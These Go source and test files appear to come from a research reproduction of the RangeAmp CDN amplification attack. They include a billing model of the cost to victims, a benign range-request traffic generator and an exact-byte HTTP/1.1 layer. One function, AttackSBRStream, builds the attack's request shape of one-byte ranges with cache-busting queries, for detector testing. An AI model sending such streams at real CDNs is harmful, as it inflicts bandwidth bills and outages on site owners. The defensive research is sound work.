	if len(tab.Rows) != 13 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	var b strings.Builder
	if err := tab.Render(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"flat-rate", "CloudFront", "Total $"} {
		if !strings.Contains(out, want) {
			t.Errorf("table missing %q", want)
		}
	}
}
