// Package billing quantifies §V-E's "great monetary loss to the
// victims" claim: most of the 13 CDNs charge their website customers
// by traffic consumption (the paper names Akamai, Alibaba Cloud,
// Azure, CDN77, CDNsun, CloudFront, Fastly, Huawei Cloud, KeyCDN and
// Tencent Cloud), so the traffic a RangeAmp attacker forces through
// the platform lands on the victim's bill, and the origin's own
// hosting egress is billed on top.
//
// The tariffs are approximate public per-GB list prices from the
// 2019/2020 period the paper cites (its refs [17]-[21]); they are
// estimation inputs, not quotes. Vendors the paper excludes from the
// by-traffic list are modelled as flat-rate (zero marginal cost).
package billing

import (
	"fmt"
	"time"

	"repro/internal/report"
)

// Tariff is one CDN's marginal traffic price.
type Tariff struct {
	Vendor   string  // display name
	PerGBUSD float64 // marginal $/GB billed to the hosted website
	FlatRate bool    // vendor does not bill by traffic (paper's exclusions)
}

// DefaultOriginEgressUSDPerGB is a typical cloud-VM egress list price
// (the victim's own hosting bill for the origin's outgoing traffic).
const DefaultOriginEgressUSDPerGB = 0.09

// Tariffs returns the 13 vendors' approximate 2019/2020 list prices in
// the paper's order.
func Tariffs() []Tariff {
	return []Tariff{
		{Vendor: "Akamai", PerGBUSD: 0.060},
		{Vendor: "Alibaba Cloud", PerGBUSD: 0.074},
		{Vendor: "Azure", PerGBUSD: 0.081},
		{Vendor: "CDN77", PerGBUSD: 0.049},
		{Vendor: "CDNsun", PerGBUSD: 0.045},
		{Vendor: "Cloudflare", FlatRate: true},
		{Vendor: "CloudFront", PerGBUSD: 0.085},
		{Vendor: "Fastly", PerGBUSD: 0.120},
		{Vendor: "G-Core Labs", FlatRate: true},
		{Vendor: "Huawei Cloud", PerGBUSD: 0.077},
		{Vendor: "KeyCDN", PerGBUSD: 0.040},
		{Vendor: "StackPath", FlatRate: true},
		{Vendor: "Tencent Cloud", PerGBUSD: 0.070},
	}
}

// TariffFor looks a tariff up by display name.
func TariffFor(vendor string) (Tariff, bool) {
	for _, t := range Tariffs() {
		if t.Vendor == vendor {
			return t, true
		}
	}
	return Tariff{}, false
}

// AttackCost is the estimated bill for one sustained SBR attack.
type AttackCost struct {
	TrafficGB       float64 // amplified traffic forced through the platform
	CDNFeeUSD       float64 // billed by the CDN to the hosted website
	OriginEgressUSD float64 // billed by the origin's own host
}

// Total returns the combined victim-side cost.
func (c AttackCost) Total() float64 { return c.CDNFeeUSD + c.OriginEgressUSD }

// EstimateSBR prices a sustained SBR attack: requestsPerSecond crafted
// requests for duration, each forcing one full copy of a resourceBytes
// object out of the origin (the Deletion-policy amplification).
// originEgressUSDPerGB <= 0 selects DefaultOriginEgressUSDPerGB.
func EstimateSBR(t Tariff, resourceBytes int64, requestsPerSecond int, duration time.Duration, originEgressUSDPerGB float64) AttackCost {
	if originEgressUSDPerGB <= 0 {
		originEgressUSDPerGB = DefaultOriginEgressUSDPerGB
	}
	requests := float64(requestsPerSecond) * duration.Seconds()
	gb := requests * float64(resourceBytes) / 1e9
	cost := AttackCost{
		TrafficGB:       gb,
		OriginEgressUSD: gb * originEgressUSDPerGB,
	}
	if !t.FlatRate {
		cost.CDNFeeUSD = gb * t.PerGBUSD
	}
	return cost
}

// CostTable renders the per-vendor estimate for one attack shape, the
// §V-E argument in numbers.
func CostTable(resourceBytes int64, requestsPerSecond int, duration time.Duration) *report.Table {
	tab := &report.Table{
		Title: fmt.Sprintf("§V-E — estimated victim cost of an SBR attack (%d req/s, %s, %d-byte resource)",
			requestsPerSecond, duration, resourceBytes),
		Columns: []string{"CDN", "Tariff $/GB", "Traffic GB", "CDN Fee $", "Origin Egress $", "Total $"},
	}
	for _, t := range Tariffs() {
		cost := EstimateSBR(t, resourceBytes, requestsPerSecond, duration, 0)
		tariffCell := fmt.Sprintf("%.3f", t.PerGBUSD)
		if t.FlatRate {
			tariffCell = "flat-rate"
		}
		tab.AddRow(t.Vendor, tariffCell,
			fmt.Sprintf("%.1f", cost.TrafficGB),
			fmt.Sprintf("%.2f", cost.CDNFeeUSD),
			fmt.Sprintf("%.2f", cost.OriginEgressUSD),
			fmt.Sprintf("%.2f", cost.Total()))
	}
	return tab
}
