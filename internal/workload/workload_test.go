package workload

import (
	"strings"
	"testing"

	"repro/internal/ranges"
)

func parseRange(t *testing.T, raw string) ranges.Set {
	t.Helper()
	set, err := ranges.Parse(raw)
	if err != nil {
		t.Fatalf("parse %q: %v", raw, err)
	}
	return set
}

func TestVideoSeekRangesValid(t *testing.T) {
	g := NewGenerator(1)
	const size = 32 << 20
	reqs := g.VideoSeek("/v.mp4", size, 1<<20, 50)
	if len(reqs) != 50 {
		t.Fatalf("%d requests", len(reqs))
	}
	for i, req := range reqs {
		raw, ok := req.Headers.Get("Range")
		if !ok {
			t.Fatalf("request %d missing Range", i)
		}
		set := parseRange(t, raw)
		if len(set) != 1 || set[0].IsSuffix() {
			t.Fatalf("request %d set = %v", i, set)
		}
		if _, ok := set[0].Resolve(size); !ok {
			t.Errorf("request %d unsatisfiable: %v", i, set)
		}
		if span := set[0].Last - set[0].First + 1; span > 1<<20 {
			t.Errorf("request %d chunk too large: %d", i, span)
		}
	}
}

func TestVideoSeekDefaultChunk(t *testing.T) {
	reqs := NewGenerator(2).VideoSeek("/v", 8<<20, 0, 5)
	raw, _ := reqs[0].Headers.Get("Range")
	set := parseRange(t, raw)
	if set[0].Last-set[0].First+1 != 1<<20 {
		t.Errorf("default chunk = %d", set[0].Last-set[0].First+1)
	}
}

func TestResumeDownloadShape(t *testing.T) {
	g := NewGenerator(3)
	for i := 0; i < 20; i++ {
		req := g.ResumeDownload("/f.iso", 100<<20)
		raw, _ := req.Headers.Get("Range")
		set := parseRange(t, raw)
		if len(set) != 1 || !set[0].IsOpenEnded() {
			t.Fatalf("resume shape = %v", set)
		}
		if set[0].First < 0 || set[0].First >= 100<<20 {
			t.Errorf("resume offset out of file: %d", set[0].First)
		}
	}
}

func TestParallelDownloadCoversDisjointly(t *testing.T) {
	g := NewGenerator(4)
	const size = 10 << 20
	for _, k := range []int{1, 2, 7} {
		reqs := g.ParallelDownload("/f", size, k)
		if len(reqs) != k {
			t.Fatalf("k=%d: %d requests", k, len(reqs))
		}
		var windows []ranges.Resolved
		for _, req := range reqs {
			raw, _ := req.Headers.Get("Range")
			set := parseRange(t, raw)
			w, ok := set[0].Resolve(size)
			if !ok {
				t.Fatalf("k=%d unsatisfiable segment %v", k, set)
			}
			windows = append(windows, w)
		}
		merged := ranges.Coalesce(windows)
		if len(merged) != 1 || merged[0].Offset != 0 || merged[0].Length != size {
			t.Errorf("k=%d does not cover the file: %+v", k, merged)
		}
		if ranges.TotalBytes(windows) != size {
			t.Errorf("k=%d segments overlap or gap: %d bytes", k, ranges.TotalBytes(windows))
		}
	}
}

func TestParallelDownloadClampsK(t *testing.T) {
	reqs := NewGenerator(5).ParallelDownload("/f", 1000, 0)
	if len(reqs) != 1 {
		t.Errorf("k=0 produced %d requests", len(reqs))
	}
}

func TestTailProbeShape(t *testing.T) {
	reqs := NewGenerator(6).TailProbe("/f.zip", 8192)
	if len(reqs) != 2 {
		t.Fatalf("%d requests", len(reqs))
	}
	raw0, _ := reqs[0].Headers.Get("Range")
	raw1, _ := reqs[1].Headers.Get("Range")
	if raw0 != "bytes=-8192" || raw1 != "bytes=0-8191" {
		t.Errorf("tail probe = %q, %q", raw0, raw1)
	}
}

func TestMixedDeterministicAndBounded(t *testing.T) {
	paths := []string{"/a", "/b"}
	a := NewGenerator(9).Mixed(paths, 16<<20, 100)
	b := NewGenerator(9).Mixed(paths, 16<<20, 100)
	if len(a) != 100 || len(b) != 100 {
		t.Fatalf("lengths %d,%d", len(a), len(b))
	}
	for i := range a {
		ra, _ := a[i].Headers.Get("Range")
		rb, _ := b[i].Headers.Get("Range")
		if a[i].Target != b[i].Target || ra != rb {
			t.Fatalf("request %d differs", i)
		}
		if !strings.HasPrefix(a[i].Target, "/a") && !strings.HasPrefix(a[i].Target, "/b") {
			t.Errorf("unexpected target %q", a[i].Target)
		}
	}
}

func TestAttackSBRStreamShape(t *testing.T) {
	stream := AttackSBRStream("/f.bin", 10)
	if len(stream) != 10 {
		t.Fatalf("%d requests", len(stream))
	}
	seen := make(map[string]bool)
	for _, req := range stream {
		raw, _ := req.Headers.Get("Range")
		if raw != "bytes=0-0" {
			t.Errorf("Range = %q", raw)
		}
		if seen[req.Target] {
			t.Errorf("duplicate cache key %q", req.Target)
		}
		seen[req.Target] = true
	}
}
