// Package workload generates realistic *benign* range-request traffic:
// the usage patterns RFC 7233 was designed for and the paper's §II-B
// lists — media seeking, resuming interrupted downloads, and
// multi-threaded parallel downloads. The detector mitigation must pass
// all of it; the generators are deterministic per seed so
// false-positive assertions are reproducible.
package workload

import (
	"fmt"
	"math/rand"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// Client labels a synthetic client (for logs; the simulation is
// single-origin so it is informational).
type Client struct {
	Host string
}

// Generator produces benign request streams.
type Generator struct {
	rng  *rand.Rand
	host string
}

// NewGenerator returns a deterministic benign-traffic generator.
func NewGenerator(seed int64) *Generator {
	return &Generator{rng: rand.New(rand.NewSource(seed)), host: "viewer.example.org"}
}

func (g *Generator) request(path string, set ranges.Set) *httpwire.Request {
	req := httpwire.NewRequest("GET", path, g.host)
	req.Headers.Add("User-Agent", "benign-client/1.0")
	if set != nil {
		req.Headers.Add("Range", set.HeaderValue())
	}
	return req
}

// VideoSeek models a media player on a resource of the given size:
// sequential chunked reads with occasional seeks. chunk is the player's
// fetch granularity (e.g. 1 MiB).
func (g *Generator) VideoSeek(path string, size, chunk int64, requests int) []*httpwire.Request {
	if chunk <= 0 {
		chunk = 1 << 20
	}
	out := make([]*httpwire.Request, 0, requests)
	pos := int64(0)
	for i := 0; i < requests; i++ {
		if g.rng.Intn(5) == 0 { // a seek
			pos = g.rng.Int63n(size)
			pos -= pos % chunk
		}
		last := pos + chunk - 1
		if last >= size {
			last = size - 1
		}
		out = append(out, g.request(path, ranges.Set{ranges.NewRange(pos, last)}))
		pos = last + 1
		if pos >= size {
			pos = 0
		}
	}
	return out
}

// ResumeDownload models a client resuming a partially completed
// transfer: one open-ended range from a random prior progress point.
func (g *Generator) ResumeDownload(path string, size int64) *httpwire.Request {
	progress := g.rng.Int63n(size)
	return g.request(path, ranges.Set{ranges.NewRange(progress, ranges.Unbounded)})
}

// ParallelDownload models a k-way segmented downloader: k requests with
// disjoint contiguous ranges covering the whole resource (each its own
// request, the way aria2/wget-style tools behave).
func (g *Generator) ParallelDownload(path string, size int64, k int) []*httpwire.Request {
	if k < 1 {
		k = 1
	}
	out := make([]*httpwire.Request, 0, k)
	per := size / int64(k)
	for i := 0; i < k; i++ {
		first := int64(i) * per
		last := first + per - 1
		if i == k-1 {
			last = size - 1
		}
		out = append(out, g.request(path, ranges.Set{ranges.NewRange(first, last)}))
	}
	return out
}

// TailProbe models tools that read a file's trailer first (zip/mp4
// index readers): one suffix range then one header range.
func (g *Generator) TailProbe(path string, tailBytes int64) []*httpwire.Request {
	return []*httpwire.Request{
		g.request(path, ranges.Set{ranges.NewSuffix(tailBytes)}),
		g.request(path, ranges.Set{ranges.NewRange(0, tailBytes-1)}),
	}
}

// Mixed produces a blended stream of the above patterns across a set
// of paths, roughly resembling an edge's benign range traffic.
func (g *Generator) Mixed(paths []string, size int64, total int) []*httpwire.Request {
	out := make([]*httpwire.Request, 0, total)
	for len(out) < total {
		path := paths[g.rng.Intn(len(paths))]
		switch g.rng.Intn(4) {
		case 0:
			out = append(out, g.VideoSeek(path, size, 1<<20, 4)...)
		case 1:
			out = append(out, g.ResumeDownload(path, size))
		case 2:
			out = append(out, g.ParallelDownload(path, size, 2+g.rng.Intn(6))...)
		default:
			out = append(out, g.TailProbe(path, 4096+g.rng.Int63n(16<<10))...)
		}
	}
	return out[:total]
}

// AttackSBRStream produces the malicious counterpart for detector
// evaluation: count tiny-range requests with churning cache-busting
// query strings, the §IV-B shape.
func AttackSBRStream(path string, count int) []*httpwire.Request {
	out := make([]*httpwire.Request, 0, count)
	for i := 0; i < count; i++ {
		req := httpwire.NewRequest("GET", fmt.Sprintf("%s?cb=%d", path, i), "attacker.example")
		req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
		req.Headers.Add("Range", "bytes=0-0")
		out = append(out, req)
	}
	return out
}
