// Package httpwire implements a minimal, exact-byte HTTP/1.1 message
// layer. Unlike net/http it preserves header order and duplicate fields
// and exposes the precise serialized size of every message, which the
// RangeAmp experiments need: amplification factors are ratios of bytes
// on the wire per network segment, and the CDN behaviours under test
// (forwarding an unmodified multi-range header, closing a back-to-origin
// connection mid-body, vendor-specific header sets) require byte-level
// control that net/http deliberately hides.
package httpwire

import "strings"

// Header is a single HTTP header field.
type Header struct {
	Name  string
	Value string
}

// wireLen returns the exact serialized length: "Name: Value\r\n".
func (h Header) wireLen() int { return len(h.Name) + 2 + len(h.Value) + 2 }

// Headers is an ordered header list. Field names compare
// case-insensitively; serialization preserves insertion order, which is
// how the per-vendor response-header templates control wire size.
type Headers []Header

// Get returns the first value for name and whether it was present.
func (hs Headers) Get(name string) (string, bool) {
	for _, h := range hs {
		if strings.EqualFold(h.Name, name) {
			return h.Value, true
		}
	}
	return "", false
}

// Values returns every value for name, in order.
func (hs Headers) Values(name string) []string {
	var out []string
	for _, h := range hs {
		if strings.EqualFold(h.Name, name) {
			out = append(out, h.Value)
		}
	}
	return out
}

// Has reports whether name is present.
func (hs Headers) Has(name string) bool {
	_, ok := hs.Get(name)
	return ok
}

// Add appends a field, preserving any existing fields of the same name.
func (hs *Headers) Add(name, value string) {
	*hs = append(*hs, Header{Name: name, Value: value})
}

// Set replaces the first field named name (appending if absent) and
// removes any further duplicates.
func (hs *Headers) Set(name, value string) {
	out := (*hs)[:0]
	replaced := false
	for _, h := range *hs {
		if strings.EqualFold(h.Name, name) {
			if !replaced {
				out = append(out, Header{Name: h.Name, Value: value})
				replaced = true
			}
			continue
		}
		out = append(out, h)
	}
	if !replaced {
		out = append(out, Header{Name: name, Value: value})
	}
	*hs = out
}

// Del removes every field named name and reports whether any existed.
func (hs *Headers) Del(name string) bool {
	out := (*hs)[:0]
	removed := false
	for _, h := range *hs {
		if strings.EqualFold(h.Name, name) {
			removed = true
			continue
		}
		out = append(out, h)
	}
	*hs = out
	return removed
}

// Clone returns a deep copy.
func (hs Headers) Clone() Headers {
	if hs == nil {
		return nil
	}
	out := make(Headers, len(hs))
	copy(out, hs)
	return out
}

// WireSize returns the exact serialized size of the header block,
// excluding the start line and the terminating blank line.
func (hs Headers) WireSize() int {
	n := 0
	for _, h := range hs {
		n += h.wireLen()
	}
	return n
}
