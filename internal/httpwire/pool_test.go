package httpwire

import (
	"bytes"
	"io"
	"strings"
	"testing"
)

func TestPooledReaderNoLeakBetweenMessages(t *testing.T) {
	// A reader that parsed one message and went back to the pool must
	// not surface any of that message's bytes when reused for another.
	first := "HTTP/1.1 200 OK\r\nContent-Length: 26\r\n\r\nAAAAAAAAAAAAAAAAAAAAAAAAAA"
	second := "HTTP/1.1 206 Partial Content\r\nContent-Length: 2\r\n\r\nbb"
	for i := 0; i < 100; i++ {
		br := GetReader(strings.NewReader(first))
		resp, err := ReadResponse(br, Limits{})
		if err != nil {
			t.Fatal(err)
		}
		if string(resp.Body) != strings.Repeat("A", 26) {
			t.Fatalf("first body = %q", resp.Body)
		}
		PutReader(br)

		br2 := GetReader(strings.NewReader(second))
		resp2, err := ReadResponse(br2, Limits{})
		if err != nil {
			t.Fatal(err)
		}
		if resp2.StatusCode != 206 || string(resp2.Body) != "bb" {
			t.Fatalf("second message contaminated: status=%d body=%q", resp2.StatusCode, resp2.Body)
		}
		if _, err := br2.ReadByte(); err == nil {
			t.Fatal("pooled reader had leftover bytes after the message")
		}
		PutReader(br2)
	}
}

func TestPooledWriterDiscardsUnflushed(t *testing.T) {
	var sink bytes.Buffer
	bw := GetWriter(&sink)
	bw.WriteString("never flushed")
	PutWriter(bw)

	var out bytes.Buffer
	bw2 := GetWriter(&out)
	bw2.WriteString("visible")
	if err := bw2.Flush(); err != nil {
		t.Fatal(err)
	}
	PutWriter(bw2)
	if sink.Len() != 0 {
		t.Fatalf("unflushed bytes reached the first sink: %q", sink.Bytes())
	}
	if out.String() != "visible" {
		t.Fatalf("second writer wrote %q", out.String())
	}
}

func TestCloneSharedAliasesBody(t *testing.T) {
	resp := NewResponse(200)
	resp.Headers.Add("X-A", "1")
	resp.SetBody([]byte("shared body"))
	cp := resp.CloneShared()

	if &cp.Body[0] != &resp.Body[0] {
		t.Error("CloneShared must alias the body, not copy it")
	}
	// Headers are deep-copied: mutating the clone's must not touch the
	// original (the relay path appends edge headers to the clone).
	cp.Headers.Add("X-B", "2")
	cp.Headers.Set("X-A", "changed")
	if v, _ := resp.Headers.Get("X-A"); v != "1" {
		t.Errorf("original header mutated: %q", v)
	}
	if resp.Headers.Has("X-B") {
		t.Error("header added to clone leaked into original")
	}

	deep := resp.Clone()
	if len(deep.Body) > 0 && &deep.Body[0] == &resp.Body[0] {
		t.Error("Clone must deep-copy the body")
	}
}

func TestSetBodyStreamWiresIdenticalBytes(t *testing.T) {
	body := []byte(strings.Repeat("payload!", 512))

	direct := NewResponse(200)
	direct.Headers.Add("X-Edge", "v")
	direct.SetBody(body)

	streamed := NewResponse(200)
	streamed.Headers.Add("X-Edge", "v")
	streamed.WriteBodyReader(bytes.NewReader(body), int64(len(body)))

	if streamed.BodySize() != int64(len(body)) {
		t.Fatalf("BodySize = %d", streamed.BodySize())
	}
	if streamed.WireSize() != direct.WireSize() {
		t.Fatalf("WireSize %d != %d", streamed.WireSize(), direct.WireSize())
	}
	var a, b bytes.Buffer
	if _, err := direct.WriteTo(&a); err != nil {
		t.Fatal(err)
	}
	if _, err := streamed.WriteTo(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatal("streamed serialization differs from materialized serialization")
	}
}

func TestBodyBytesMaterializesStream(t *testing.T) {
	body := []byte("0123456789")
	resp := NewResponse(200)
	resp.SetBodyStream(replayableBody(body), int64(len(body)))
	if _, ok := resp.BodyStream(); !ok {
		t.Fatal("BodyStream not set")
	}
	got := resp.BodyBytes()
	if !bytes.Equal(got, body) {
		t.Fatalf("BodyBytes = %q", got)
	}
	// Replayable stream: materializing twice gives the same bytes.
	if !bytes.Equal(resp.BodyBytes(), body) {
		t.Fatal("second BodyBytes differs")
	}
	// SetBody clears the stream.
	resp.SetBody([]byte("x"))
	if _, ok := resp.BodyStream(); ok {
		t.Fatal("SetBody left the stream installed")
	}
	if resp.BodySize() != 1 {
		t.Fatalf("BodySize after SetBody = %d", resp.BodySize())
	}
}

// replayableBody is a trivial io.WriterTo over a byte slice.
type replayableBody []byte

func (rb replayableBody) WriteTo(w io.Writer) (int64, error) {
	n, err := w.Write(rb)
	return int64(n), err
}
