package httpwire

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
)

// Proto11 is the only protocol version this layer speaks.
const Proto11 = "HTTP/1.1"

// Errors shared by the parsers.
var (
	ErrMalformedStartLine = errors.New("httpwire: malformed start line")
	ErrMalformedHeader    = errors.New("httpwire: malformed header field")
	ErrHeaderTooLarge     = errors.New("httpwire: header block exceeds limit")
	ErrBodyTooLarge       = errors.New("httpwire: body exceeds limit")
)

// Limits bound message parsing. Zero fields mean the defaults below.
type Limits struct {
	MaxHeaderBytes int   // total header block, default 1 MiB
	MaxBodyBytes   int64 // default 256 MiB
}

const (
	defaultMaxHeaderBytes = 1 << 20
	defaultMaxBodyBytes   = 256 << 20
)

func (l Limits) header() int {
	if l.MaxHeaderBytes > 0 {
		return l.MaxHeaderBytes
	}
	return defaultMaxHeaderBytes
}

func (l Limits) body() int64 {
	if l.MaxBodyBytes > 0 {
		return l.MaxBodyBytes
	}
	return defaultMaxBodyBytes
}

// Request is an HTTP/1.1 request with exact wire representation.
type Request struct {
	Method  string
	Target  string // origin-form: path with optional ?query
	Proto   string
	Headers Headers
	Body    []byte
}

// NewRequest returns a GET request for target against host.
func NewRequest(method, target, host string) *Request {
	r := &Request{Method: method, Target: target, Proto: Proto11}
	r.Headers.Add("Host", host)
	return r
}

// Host returns the Host header value.
func (r *Request) Host() string {
	v, _ := r.Headers.Get("Host")
	return v
}

// Path returns the target without its query string.
func (r *Request) Path() string {
	if i := strings.IndexByte(r.Target, '?'); i >= 0 {
		return r.Target[:i]
	}
	return r.Target
}

// Query returns the raw query string (without '?'), or "".
func (r *Request) Query() string {
	if i := strings.IndexByte(r.Target, '?'); i >= 0 {
		return r.Target[i+1:]
	}
	return ""
}

// Clone returns a deep copy of the request.
func (r *Request) Clone() *Request {
	out := &Request{Method: r.Method, Target: r.Target, Proto: r.Proto, Headers: r.Headers.Clone()}
	if r.Body != nil {
		out.Body = append([]byte(nil), r.Body...)
	}
	return out
}

// StartLineSize returns the exact size of "METHOD SP target SP proto\r\n".
func (r *Request) StartLineSize() int {
	return len(r.Method) + 1 + len(r.Target) + 1 + len(r.Proto) + 2
}

// WireSize returns the exact serialized size of the request.
func (r *Request) WireSize() int {
	return r.StartLineSize() + r.Headers.WireSize() + 2 + len(r.Body)
}

// WriteTo serializes the request. It does not add framing headers; set
// Content-Length yourself if the request has a body.
func (r *Request) WriteTo(w io.Writer) (int64, error) {
	return writeMessage(w, r.Method+" "+r.Target+" "+r.Proto, r.Headers, r.Body)
}

// Response is an HTTP/1.1 response with exact wire representation.
//
// A response body is either a materialized Body slice or a streamed
// body installed with SetBodyStream/WriteBodyReader. Streamed bodies
// are serialized directly to the destination writer at WriteTo time —
// the joined body bytes are never built in memory — which is what keeps
// the BCDN's n-part OBR reply allocation-flat. Code that needs the
// bytes regardless of representation should use BodyBytes/BodySize.
type Response struct {
	Proto      string
	StatusCode int
	Reason     string
	Headers    Headers
	Body       []byte

	// stream, when non-nil, takes precedence over Body. streamSize is
	// its exact serialized size (the Content-Length).
	stream     io.WriterTo
	streamSize int64
}

// NewResponse returns a response with the canonical reason phrase.
func NewResponse(status int) *Response {
	return &Response{Proto: Proto11, StatusCode: status, Reason: ReasonPhrase(status)}
}

// StartLineSize returns the exact size of "proto SP code SP reason\r\n".
func (r *Response) StartLineSize() int {
	return len(r.Proto) + 1 + 3 + 1 + len(r.Reason) + 2
}

// WireSize returns the exact serialized size of the response.
func (r *Response) WireSize() int {
	return r.StartLineSize() + r.Headers.WireSize() + 2 + int(r.BodySize())
}

// HeaderSize returns the serialized size of everything except the body.
func (r *Response) HeaderSize() int {
	return r.StartLineSize() + r.Headers.WireSize() + 2
}

// BodySize returns the exact body size in bytes, whether the body is
// materialized or streamed.
func (r *Response) BodySize() int64 {
	if r.stream != nil {
		return r.streamSize
	}
	return int64(len(r.Body))
}

// SetBody installs body and keeps Content-Length in sync. Any
// previously installed body stream is dropped.
func (r *Response) SetBody(body []byte) {
	r.Body = body
	r.stream = nil
	r.streamSize = 0
	r.Headers.Set("Content-Length", strconv.Itoa(len(body)))
}

// SetBodyStream installs a streamed body of exactly size bytes and
// keeps Content-Length in sync. src is serialized directly to the
// destination writer at WriteTo time; it must write exactly size bytes
// and must be replayable if the response is written more than once
// (multipart.Message satisfies both).
func (r *Response) SetBodyStream(src io.WriterTo, size int64) {
	r.Body = nil
	r.stream = src
	r.streamSize = size
	r.Headers.Set("Content-Length", strconv.FormatInt(size, 10))
}

// WriteBodyReader installs a streamed body drawn from src, which must
// yield exactly size bytes. The reader is drained through a pooled
// transfer buffer at WriteTo time; unlike SetBodyStream the body is
// single-shot (the reader is consumed by the first write).
func (r *Response) WriteBodyReader(src io.Reader, size int64) {
	r.SetBodyStream(readerBody{src: src, n: size}, size)
}

// BodyStream returns the installed body stream, if any.
func (r *Response) BodyStream() (io.WriterTo, bool) {
	return r.stream, r.stream != nil
}

// BodyBytes returns the body as a byte slice, materializing a streamed
// body. Hot paths never call this on streamed responses; it exists for
// tests and fault-injection code that must inspect the exact bytes.
func (r *Response) BodyBytes() []byte {
	if r.stream == nil {
		return r.Body
	}
	var b bytes.Buffer
	b.Grow(int(r.streamSize))
	r.stream.WriteTo(&b) //nolint:errcheck // bytes.Buffer cannot fail
	return b.Bytes()
}

// KeepsConnReusable reports whether the connection this response was
// parsed from can carry another HTTP/1.1 exchange: the peer did not
// announce Connection: close, and the body's framing let the parser
// consume exactly the message (explicit Content-Length, a fully read
// chunked coding, or a status that forbids a body). Close-delimited
// responses read until EOF, so their connection is spent by definition.
func (r *Response) KeepsConnReusable() bool {
	if v, ok := r.Headers.Get("Connection"); ok && strings.EqualFold(v, "close") {
		return false
	}
	if !statusAllowsBody(r.StatusCode) {
		return true
	}
	if r.Headers.Has("Content-Length") {
		return true
	}
	if te, ok := r.Headers.Get("Transfer-Encoding"); ok && strings.Contains(strings.ToLower(te), "chunked") {
		return true
	}
	return false
}

// Clone returns a deep copy of the response. A streamed body is carried
// by reference (streams are replayable, not mutable), so cloning a
// streaming response stays cheap.
func (r *Response) Clone() *Response {
	out := &Response{Proto: r.Proto, StatusCode: r.StatusCode, Reason: r.Reason,
		Headers: r.Headers.Clone(), stream: r.stream, streamSize: r.streamSize}
	if r.Body != nil {
		out.Body = append([]byte(nil), r.Body...)
	}
	return out
}

// CloneShared returns a copy whose headers are independently mutable
// but whose body aliases the receiver's. This is the relay fast path:
// an edge that only appends headers before forwarding a response has no
// reason to copy a megabyte body it will never mutate. Callers must
// treat the shared body as read-only.
func (r *Response) CloneShared() *Response {
	return &Response{Proto: r.Proto, StatusCode: r.StatusCode, Reason: r.Reason,
		Headers: r.Headers.Clone(), Body: r.Body, stream: r.stream, streamSize: r.streamSize}
}

// WriteTo serializes the response. Streamed bodies are written straight
// from their source windows; the joined body is never materialized.
func (r *Response) WriteTo(w io.Writer) (int64, error) {
	line := r.Proto + " " + strconv.Itoa(r.StatusCode) + " " + r.Reason
	if r.stream != nil {
		total, err := writeMessage(w, line, r.Headers, nil)
		if err != nil {
			return total, err
		}
		n, err := r.stream.WriteTo(w)
		return total + n, err
	}
	return writeMessage(w, line, r.Headers, r.Body)
}

func writeMessage(w io.Writer, startLine string, hs Headers, body []byte) (int64, error) {
	sp := getScratch()
	b := (*sp)[:0]
	b = append(b, startLine...)
	b = append(b, '\r', '\n')
	for _, h := range hs {
		b = append(b, h.Name...)
		b = append(b, ':', ' ')
		b = append(b, h.Value...)
		b = append(b, '\r', '\n')
	}
	b = append(b, '\r', '\n')
	n, err := w.Write(b)
	*sp = b
	putScratch(sp)
	total := int64(n)
	if err != nil {
		return total, err
	}
	if len(body) > 0 {
		m, err := w.Write(body)
		total += int64(m)
		if err != nil {
			return total, err
		}
	}
	return total, nil
}

// ReadRequest parses one request from br using lim.
func ReadRequest(br *bufio.Reader, lim Limits) (*Request, error) {
	line, hdrBytes, err := readLine(br, lim.header())
	if err != nil {
		return nil, err
	}
	parts := strings.SplitN(line, " ", 3)
	if len(parts) != 3 || parts[0] == "" || parts[1] == "" || !strings.HasPrefix(parts[2], "HTTP/") {
		return nil, fmt.Errorf("%w: %q", ErrMalformedStartLine, line)
	}
	req := &Request{Method: parts[0], Target: parts[1], Proto: parts[2]}
	req.Headers, err = readHeaders(br, lim.header()-hdrBytes)
	if err != nil {
		return nil, err
	}
	req.Body, err = readBody(br, req.Headers, lim, false, -1)
	if err != nil {
		return nil, err
	}
	return req, nil
}

// ReadResponse parses one response from br. Responses without a
// Content-Length are read until EOF (HTTP/1.1 close-delimited framing).
func ReadResponse(br *bufio.Reader, lim Limits) (*Response, error) {
	resp, _, err := readResponse(br, lim, -1)
	return resp, err
}

// ReadResponseLimited parses a response but stops consuming the body
// after maxBody payload bytes, returning truncated=true when the body
// was cut short. This models a proxy (Azure in §V-A) that closes its
// back-to-origin connection once it has seen enough payload.
func ReadResponseLimited(br *bufio.Reader, lim Limits, maxBody int64) (resp *Response, truncated bool, err error) {
	return readResponse(br, lim, maxBody)
}

func readResponse(br *bufio.Reader, lim Limits, maxBody int64) (*Response, bool, error) {
	line, hdrBytes, err := readLine(br, lim.header())
	if err != nil {
		return nil, false, err
	}
	parts := strings.SplitN(line, " ", 3)
	if len(parts) < 2 || !strings.HasPrefix(parts[0], "HTTP/") {
		return nil, false, fmt.Errorf("%w: %q", ErrMalformedStartLine, line)
	}
	code, err := strconv.Atoi(parts[1])
	if err != nil || code < 100 || code > 999 {
		return nil, false, fmt.Errorf("%w: status %q", ErrMalformedStartLine, parts[1])
	}
	resp := &Response{Proto: parts[0], StatusCode: code}
	if len(parts) == 3 {
		resp.Reason = parts[2]
	}
	resp.Headers, err = readHeaders(br, lim.header()-hdrBytes)
	if err != nil {
		return nil, false, err
	}
	if !statusAllowsBody(code) {
		return resp, false, nil
	}
	resp.Body, err = readBody(br, resp.Headers, lim, true, maxBody)
	truncated := errors.Is(err, errTruncated)
	if truncated {
		err = nil
	}
	return resp, truncated, err
}

var errTruncated = errors.New("httpwire: body truncated at read limit")

func statusAllowsBody(code int) bool {
	return code >= 200 && code != 204 && code != 304
}

func readBody(br *bufio.Reader, hs Headers, lim Limits, untilEOF bool, maxBody int64) ([]byte, error) {
	if te, ok := hs.Get("Transfer-Encoding"); ok && strings.Contains(strings.ToLower(te), "chunked") {
		return readChunkedBody(br, lim, maxBody)
	}
	if cl, ok := hs.Get("Content-Length"); ok {
		n, err := strconv.ParseInt(strings.TrimSpace(cl), 10, 64)
		if err != nil || n < 0 {
